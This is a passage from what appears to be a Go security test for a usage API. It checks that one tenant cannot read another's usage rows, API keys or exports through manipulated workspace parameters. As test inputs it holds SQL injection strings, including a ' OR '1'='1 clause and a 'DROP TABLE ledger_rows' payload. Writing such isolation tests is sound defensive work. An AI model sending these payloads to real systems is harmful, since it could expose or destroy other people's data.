		t.Errorf("A's key after B tried to revoke it: %d %s", status, raw)
	}
	// Usage, listings and exports show B nothing of A, whatever the query says. First wait
	// until A sees its own row (rows reach the database in batches), so absence means something.
	for deadline := time.Now().Add(15 * time.Second); ; time.Sleep(50 * time.Millisecond) {
		if _, _, raw := hostileDo(t, http.MethodGet, e.base+"/v1/usage/requests?limit=1000", e.allowed, ""); bytes.Contains(raw, []byte(aReq)) {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("A's row %s never appeared in A's own listing", aReq)
		}
	}
	from, to := time.Now().Add(-time.Hour).UTC().Format(time.RFC3339), time.Now().Add(time.Hour).UTC().Format(time.RFC3339)
	inj := url.QueryEscape(e.allowedWS)
	for _, path := range []string{
		"/v1/usage/requests?limit=1000&workspace_id=" + inj,
		"/v1/usage/requests?workspace=" + inj + "&cursor=" + url.QueryEscape(aReq),
		"/v1/usage/summary?workspace_id=" + inj + "&group_by=model",
		"/v1/usage/export?format=jsonl&from=" + from + "&to=" + to + "&workspace_id=" + inj,
		"/v1/usage/export?format=csv&from=" + from + "&to=" + to + "&workspace=" + inj,
		"/v1/api-keys?workspace_id=" + inj,
		"/v1/usage/requests?limit=1000&from=' OR '1'='1",
		"/v1/usage/summary?group_by=model;DROP TABLE ledger_rows",
		"/v1/usage/export?format=csv&from=" + from + "&to=" + to + "%27%3B--",
	} {
		status, _, raw := hostileDo(t, http.MethodGet, e.base+path, e.other, "")
		if status >= 500 {
			t.Errorf("B GET %s: %d %s", path, status, raw)
		}
		for _, leak := range []string{e.allowedWS, aReq, aKeyID, "secret", "confidential"} {
			if leak != "" && bytes.Contains(raw, []byte(leak)) {
				t.Errorf("B GET %s leaked %q: %s", path, leak, raw)
			}
		}
	}
}
